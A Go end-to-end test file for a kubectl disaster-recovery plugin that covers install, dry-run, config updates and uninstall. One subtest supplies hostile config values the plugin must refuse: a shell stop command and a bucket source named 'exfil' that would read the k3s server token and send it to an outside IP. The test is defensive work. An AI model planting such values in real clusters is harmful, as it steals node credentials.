package e2e

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"k8s.io/client-go/tools/clientcmd"
	"sigs.k8s.io/yaml"

	"github.com/kubectl-dr/kubectl-dr/test/lab"
)

// The plugin as a user runs it after install (as every e2e test runs it),
// and without the lab's process agents: only the installed one.
var asInstalled = []string{"KUBECTL_DR_AGENTS="}

// installed are the objects install makes, as kubectl names them.
var installed = []string{
	"namespace/dr-system", "clusterrole/dr-agent", "clusterrolebinding/dr-agent",
	"-n dr-system serviceaccount/dr-agent",
	"-n dr-system configmap/dr-agent-config", "-n dr-system daemonset/dr-agent",
	"-n dr-system secret/dr-agent-ca", "-n dr-system secret/dr-agent-tls", "-n dr-system secret/dr-client-tls",
	"-n dr-system secret/dr-store", "-n dr-system secret/dr-store-node",
	"-n dr-system secret/dr-snapshot-key", "-n dr-system secret/dr-snapshot-recipient", "-n dr-system secret/dr-restic",
}

// kubectl install on the lab's real node: from nothing to an agent that
// writes to the store, safe to re-run, previewable, configurable without a
// restart, and removed without touching the store.
func TestInstallOnTheLabNode(t *testing.T) {
	node := theLab.State.KubeNode
	// The lab's own DaemonSet makes room (uninstall removes it: it carries
	// the kustomization's part-of label), with its keys, so that install
	// starts from nothing; it comes back after the test.
	if r := onTerminal(t, "y\n", nil, "uninstall", "--yes", "--delete-keys"); r.code != 0 {
		t.Fatalf("uninstall of the lab's DaemonSet: exit %d\n%s", r.code, r.stdout)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
		defer cancel()
		kubectlDR(t, nil, "uninstall", "--yes")
		if err := theLab.RedeployAgent(ctx); err != nil {
			t.Errorf("redeploy the lab's agent: %v", err)
		}
	})

	dir := t.TempDir()
	write := func(name, content string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	accessKey := write("access.key", theLab.State.MinIOUser+"\n")
	secretKey := write("secret.key", theLab.State.MinIOSecret+"\n")
	wrongKey := write("wrong.key", "not-the-secret\n")
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", theLab.State.Ports["minio"])
	_, agentPort, _ := strings.Cut(theLab.AgentAddr(node), ":")
	args := func(secret string, extra ...string) []string {
		return append([]string{"install", "--store", theLab.StoreURL(), "--s3-endpoint", endpoint,
			"--access-key-file", accessKey, "--secret-key-file", secret,
			"--image", lab.AgentImage, "--data-dir", theLab.DataDir(node),
			"--state-dir", filepath.Join(theLab.NodeRoot(node), "var", "lib", "dr-agent"),
			"--agent-port", agentPort, "--timeout", "3m"}, extra...)
	}

	t.Run("wrong credentials: nothing applied", func(t *testing.T) {
		r := kubectlDR(t, asInstalled, args(wrongKey)...)
		if r.code != 1 || !strings.Contains(r.stderr, "nothing was applied") || !strings.Contains(r.stderr, endpoint[len("http://"):]) {
			t.Errorf("install with a wrong secret key: exit %d, stderr:\n%s\nwant exit 1 naming the endpoint and saying nothing was applied", r.code, r.stderr)
		}
		if r := runBin(t, theLab.Bin.Kubectl, nil, "get", "namespace", "dr-system"); r.code == 0 {
			t.Errorf("namespace dr-system exists after a refused install")
		}
	})

	t.Run("no permission: the missing ones named", func(t *testing.T) {
		kubeconfig := unprivilegedKubeconfig(t, dir)
		r := kubectlDR(t, append([]string{"KUBECONFIG=" + kubeconfig}, asInstalled...), args(secretKey)...)
		for _, want := range []string{"may not:", "create namespaces", "patch clusterroles.rbac.authorization.k8s.io", "create daemonsets.apps in namespace dr-system", "nothing was applied"} {
			if !strings.Contains(r.stderr, want) {
				t.Errorf("install without permission: stderr lacks %q:\n%s", want, r.stderr)
			}
		}
		if r.code != 1 {
			t.Errorf("exit %d, want 1", r.code)
		}
	})

	r := kubectlDR(t, asInstalled, args(secretKey)...)
	if r.code != 0 {
		t.Fatalf("install: exit %d\n%s", r.code, r.stderr)
	}
	t.Logf("kubectl dr install:\n%s", r.stderr)
	for _, want := range []string{
		"store " + theLab.StoreURL(), "namespace/dr-system created", "daemonset/dr-agent created", "secret/dr-restic created",
		"node " + node + ": agent Ready", "node " + node + ": agent ", "writes to " + theLab.StoreURL(),
		"Keep a copy outside the cluster",
	} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("install output lacks %q:\n%s", want, r.stderr)
		}
	}
	for _, obj := range installed {
		runKubectl(t, kubectlGet(obj)...)
	}
	podBefore := agentPod(t)

	t.Run("re-run changes nothing", func(t *testing.T) {
		before := resourceVersions(t)
		// Only the image: the store, directories and port come from the
		// first install.
		r := kubectlDR(t, asInstalled, "install", "--image", lab.AgentImage, "--wait=false")
		if r.code != 0 {
			t.Fatalf("second install: exit %d\n%s", r.code, r.stderr)
		}
		if strings.Contains(r.stderr, " created") || strings.Contains(r.stderr, " configured") || strings.Contains(r.stderr, "Generated") {
			t.Errorf("second install changed something:\n%s", r.stderr)
		}
		if !strings.Contains(r.stderr, "Not waiting") {
			t.Errorf("--wait=false did not say it skips the wait:\n%s", r.stderr)
		}
		if after := resourceVersions(t); !reflect.DeepEqual(before, after) {
			t.Errorf("resource versions changed:\nbefore %v\nafter  %v", before, after)
		}
	})

	t.Run("dry-run prints what is applied", func(t *testing.T) {
		r := kubectlDR(t, asInstalled, args(secretKey, "--dry-run", "-o", "yaml")...)
		if r.code != 0 {
			t.Fatalf("install --dry-run: exit %d\n%s", r.code, r.stderr)
		}
		docs := strings.Split(r.stdout, "\n---\n")
		if len(docs) != len(installed) {
			t.Errorf("--dry-run printed %d objects, install makes %d", len(docs), len(installed))
		}
		for _, doc := range docs {
			var obj map[string]any
			if err := yaml.Unmarshal([]byte(doc), &obj); err != nil {
				t.Fatalf("dry-run output: %v\n%s", err, doc)
			}
			meta := obj["metadata"].(map[string]any)
			kind, name := strings.ToLower(obj["kind"].(string)), meta["name"].(string)
			get := []string{"get", kind + "/" + name, "-o", "json"}
			if ns, ok := meta["namespace"].(string); ok {
				get = append([]string{"-n", ns}, get...)
			}
			var live map[string]any
			if err := json.Unmarshal([]byte(runKubectl(t, get...)), &live); err != nil {
				t.Fatal(err)
			}
			if path, diff := subset(obj, live, kind+"/"+name); diff != "" {
				t.Errorf("%s: dry-run has %s", path, diff)
			}
		}
	})

	t.Run("-n selects the agents' namespace, never ignored", func(t *testing.T) {
		r := kubectlDR(t, asInstalled, args(secretKey, "--dry-run", "-o", "yaml", "-n", "dr-user")...)
		if r.code != 0 {
			t.Fatalf("install -n dr-user --dry-run: exit %d\n%s", r.code, r.stderr)
		}
		for _, doc := range strings.Split(r.stdout, "\n---\n") {
			var obj struct {
				Kind     string
				Metadata struct{ Name, Namespace string }
			}
			if err := yaml.Unmarshal([]byte(doc), &obj); err != nil {
				t.Fatal(err)
			}
			if obj.Metadata.Namespace != "" && obj.Metadata.Namespace != "dr-user" || obj.Kind == "Namespace" && obj.Metadata.Name != "dr-user" {
				t.Errorf("install -n dr-user would put %s/%s in %q", obj.Kind, obj.Metadata.Name, obj.Metadata.Namespace)
			}
		}
		r = kubectlDR(t, asInstalled, "status", "-n", "dr-user", "--agent-namespace", "dr-system")
		if r.code != 2 || !strings.Contains(r.stderr, "disagree") {
			t.Errorf("-n and a different --agent-namespace: exit %d\n%s\nwant exit 2 saying they disagree", r.code, r.stderr)
		}
	})

	t.Run("config set reaches the agent without a restart", func(t *testing.T) {
		etcd := theLab.EtcdClient(node).Endpoint
		r := kubectlDR(t, asInstalled, "config", "set", "etcd.endpoint="+etcd, "etcd.retention.keepDaily=9")
		if r.code != 0 || !strings.Contains(r.stderr, "node "+node+": agent runs the new configuration") {
			t.Fatalf("config set: exit %d\n%s", r.code, r.stderr)
		}
		t.Logf("kubectl dr config set:\n%s", r.stderr)
		if r := kubectlDR(t, asInstalled, "config", "get", "etcd.endpoint"); strings.TrimSpace(r.stdout) != etcd {
			t.Errorf("config get etcd.endpoint = %q, want %s", r.stdout, etcd)
		}
		// The agent now reaches the lab's etcd: a snapshot through the pod.
		r = kubectlDR(t, asInstalled, "etcd", "snapshot", "save", "--node", node, "--name", "after-install", "-o", "json")
		if r.code != 0 {
			t.Fatalf("snapshot after config set: exit %d\n%s", r.code, r.stderr)
		}
		if snap := snapshotJSON(t, r); !snap.Uploaded || !snap.Encrypted() {
			t.Errorf("snapshot after install: uploaded %v, encrypted %v; want both (install made a snapshot key)", snap.Uploaded, snap.Encrypted())
		}
		if after := agentPod(t); after != podBefore {
			t.Errorf("agent pod %s became %s: config set must not restart it", podBefore, after)
		}

		before := runKubectl(t, "-n", "dr-system", "get", "configmap", "dr-agent-config", "-o", "jsonpath={.metadata.resourceVersion}")
		r = kubectlDR(t, asInstalled, "config", "set", "etcd.schedule=every tuesday")
		if r.code != 2 || !strings.Contains(r.stderr, "etcd.schedule") || !strings.Contains(r.stderr, "nothing changed") {
			t.Errorf("config set of a bad schedule: exit %d\n%s\nwant exit 2 naming etcd.schedule", r.code, r.stderr)
		}
		r = kubectlDR(t, asInstalled, "config", "set", "store.url=s3://elsewhere")
		if r.code != 2 || !strings.Contains(r.stderr, "set by install") {
			t.Errorf("config set of the store: exit %d\n%s\nwant exit 2: install owns it", r.code, r.stderr)
		}
		// Host commands are install's: config set refuses them, naming
		// the install flag.
		for arg, flag := range map[string]string{
			"restore.stopCommand=[sh, -c, id]": "--stop-command", "restore.k3sBinary=/tmp/k3s": "--k3s-binary",
			"restore={flavor: etcd}": "restore.stopCommand", "apiServer=10.9.9.9:6443": "--api-server",
		} {
			r = kubectlDR(t, asInstalled, "config", "set", arg)
			if r.code != 2 || !strings.Contains(r.stderr, flag) {
				t.Errorf("config set %s: exit %d\n%s\nwant exit 2 naming %s", arg, r.code, r.stderr, flag)
			}
		}
		// Where a bucket source's key files are read from and sent is
		// install's too (an access key goes out in the clear): a source
		// added by config set, reading a node file and sending it to an
		// endpoint of one's own, is refused.
		planted := `[{name: exfil, bucket: {url: "s3://x", endpoint: "http://203.0.113.9:9000", accessKeyFile: /var/lib/rancher/k3s/server/token, secretKeyFile: /etc/hostname}}]`
		r = kubectlDR(t, asInstalled, "config", "set", "buckets.sources="+planted)
		if r.code != 2 || !strings.Contains(r.stderr, "--bucket-source") || !strings.Contains(r.stderr, "nothing was written") {
			t.Errorf("config set of a bucket source reading a node's file: exit %d\n%s\nwant exit 2 naming --bucket-source", r.code, r.stderr)
		}
		if after := runKubectl(t, "-n", "dr-system", "get", "configmap", "dr-agent-config", "-o", "jsonpath={.metadata.resourceVersion}"); after != before {
			t.Errorf("refused config set changed the ConfigMap")
		}
	})

	t.Run("uninstall keeps the keys unless told twice, and the store", func(t *testing.T) {
		r := kubectlDR(t, asInstalled, "uninstall")
		if r.code != 2 || !strings.Contains(r.stderr, "--yes") {
			t.Errorf("uninstall without --yes and no terminal: exit %d\n%s\nwant exit 2 asking for --yes", r.code, r.stderr)
		}
		key := runKubectl(t, "-n", "dr-system", "get", "secret", "dr-snapshot-key", "-o", `jsonpath={.data.snapshot\.key}`)
		r = kubectlDR(t, asInstalled, "uninstall", "--yes")
		if r.code != 0 {
			t.Fatalf("uninstall: exit %d\n%s", r.code, r.stderr)
		}
		kept := []string{"namespace/dr-system", "-n dr-system secret/dr-snapshot-key", "-n dr-system secret/dr-restic"}
		for _, obj := range installed {
			r := runBin(t, theLab.Bin.Kubectl, nil, kubectlGet(obj)...)
			if slices.Contains(kept, obj) != (r.code == 0) {
				t.Errorf("%s after uninstall --yes: kubectl get exit %d; want it kept: %v", obj, r.code, slices.Contains(kept, obj))
			}
		}
		for _, want := range []string{"Kept the keys to every backup", "dr-snapshot-key, dr-restic",
			`kubectl -n dr-system get secret dr-snapshot-key -o jsonpath='{.data.snapshot\.key}' | base64 -d > dr-snapshot.key`,
			"kubectl -n dr-system get secret dr-restic -o jsonpath='{.data.password}' | base64 -d > dr-restic.password",
			"--delete-keys"} {
			if !strings.Contains(r.stderr, want) {
				t.Errorf("uninstall --yes: stderr lacks %q:\n%s", want, r.stderr)
			}
		}
		if after := runKubectl(t, "-n", "dr-system", "get", "secret", "dr-snapshot-key", "-o", `jsonpath={.data.snapshot\.key}`); after != key || key == "" {
			t.Errorf("the snapshot key changed across uninstall")
		}

		// --yes does not answer --delete-keys' question; no terminal, no.
		r = kubectlDR(t, asInstalled, "uninstall", "--yes", "--delete-keys")
		if r.code != 2 || !strings.Contains(r.stderr, "nothing removed") || !strings.Contains(r.stderr, "--yes does not answer it") {
			t.Errorf("uninstall --yes --delete-keys without a terminal: exit %d\n%s\nwant exit 2, nothing removed", r.code, r.stderr)
		}
		r = onTerminal(t, "n\n", asInstalled, "uninstall", "--yes", "--delete-keys")
		if r.code != 2 || !strings.Contains(r.stdout, "becomes unreadable") || !strings.Contains(r.stdout, "dr-snapshot-key and dr-restic") {
			t.Errorf("uninstall --delete-keys answered no: exit %d\n%s\nwant exit 2 after a question naming the keys and what becomes unreadable", r.code, r.stdout)
		}
		for _, obj := range kept {
			runKubectl(t, kubectlGet(obj)...)
		}
		r = onTerminal(t, "y\n", asInstalled, "uninstall", "--yes", "--delete-keys")
		if r.code != 0 {
			t.Fatalf("uninstall --delete-keys answered yes: exit %d\n%s", r.code, r.stdout)
		}
		for _, obj := range installed {
			if r := runBin(t, theLab.Bin.Kubectl, nil, kubectlGet(obj)...); r.code == 0 {
				t.Errorf("%s still exists after uninstall --delete-keys", obj)
			}
		}
		// Read the store directly (direct mode: the store's Secret is
		// gone): the snapshot taken through the installed agent is still
		// there.
		r = kubectlDR(t, directMode(t), "etcd", "snapshot", "ls", "-o", "json")
		if r.code != 0 || !strings.Contains(r.stdout, "after-install") {
			t.Errorf("snapshot ls from the store after uninstall: exit %d, after-install missing\n%s", r.code, r.stderr)
		}
	})
}

// onTerminal runs the plugin on a terminal (util-linux script(1) gives it
// one) with input typed into it; stdout is everything the terminal showed.
func onTerminal(t *testing.T, input string, extraEnv []string, args ...string) result {
	t.Helper()
	quoted := []string{theLab.Bin.KubectlDR}
	for _, a := range args {
		quoted = append(quoted, "'"+strings.ReplaceAll(a, "'", `'\''`)+"'")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "script", "-qec", strings.Join(quoted, " "), "/dev/null")
	cmd.Env = append(append(os.Environ(), theLab.UserEnv()...), extraEnv...)
	cmd.Stdin = strings.NewReader(input)
	out, err := cmd.CombinedOutput()
	r := result{stdout: string(out)}
	var ee *exec.ExitError
	switch {
	case errors.As(err, &ee):
		r.code = ee.ExitCode()
	case err != nil:
		t.Fatalf("script %v: %v", args, err)
	}
	return r
}

// unprivilegedKubeconfig is the lab's API server with the token of a
// ServiceAccount that has no role bound.
func unprivilegedKubeconfig(t *testing.T, dir string) string {
	t.Helper()
	runKubectl(t, "-n", "default", "create", "serviceaccount", "dr-nobody")
	t.Cleanup(func() { runBin(t, theLab.Bin.Kubectl, nil, "-n", "default", "delete", "serviceaccount", "dr-nobody") })
	token := strings.TrimSpace(runKubectl(t, "-n", "default", "create", "token", "dr-nobody"))
	cfg, err := clientcmd.LoadFromFile(filepath.Join(theLab.Dir, "kubeconfig"))
	if err != nil {
		t.Fatal(err)
	}
	for name, a := range cfg.AuthInfos {
		a.ClientCertificate, a.ClientKey, a.ClientCertificateData, a.ClientKeyData = "", "", nil, nil
		a.Token = token
		cfg.AuthInfos[name] = a
	}
	p := filepath.Join(dir, "nobody.kubeconfig")
	if err := clientcmd.WriteToFile(*cfg, p); err != nil {
		t.Fatal(err)
	}
	return p
}

// kubectlGet is the kubectl get command line for an entry of installed.
func kubectlGet(obj string, extra ...string) []string {
	f := strings.Fields(obj)
	args := append([]string{}, f[:len(f)-1]...)
	return append(append(args, "get", f[len(f)-1]), extra...)
}

func agentPod(t *testing.T) string {
	t.Helper()
	return strings.TrimSpace(runKubectl(t, "-n", "dr-system", "get", "pods", "-l", "app.kubernetes.io/name=dr-agent",
		"-o", "jsonpath={range .items[*]}{.metadata.name}/{.status.containerStatuses[0].restartCount}{end}"))
}

func resourceVersions(t *testing.T) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, obj := range installed {
		out[obj] = runKubectl(t, kubectlGet(obj, "-o", "jsonpath={.metadata.resourceVersion}")...)
	}
	return out
}

// subset reports where want has a value live lacks or differs in; live may
// carry more (defaults, status).
func subset(want, live any, path string) (string, string) {
	switch w := want.(type) {
	case map[string]any:
		l, ok := live.(map[string]any)
		if !ok {
			return path, fmt.Sprintf("a map, not %T", live)
		}
		for k, v := range w {
			if p, d := subset(v, l[k], path+"."+k); d != "" {
				return p, d
			}
		}
	case []any:
		l, ok := live.([]any)
		if !ok || len(l) != len(w) {
			return path, fmt.Sprintf("%d items, the cluster %v", len(w), live)
		}
		for i := range w {
			if p, d := subset(w[i], l[i], fmt.Sprintf("%s[%d]", path, i)); d != "" {
				return p, d
			}
		}
	default:
		if fmt.Sprint(want) != fmt.Sprint(live) {
			return path, fmt.Sprintf("%v, the cluster %v", want, live)
		}
	}
	return "", ""
}
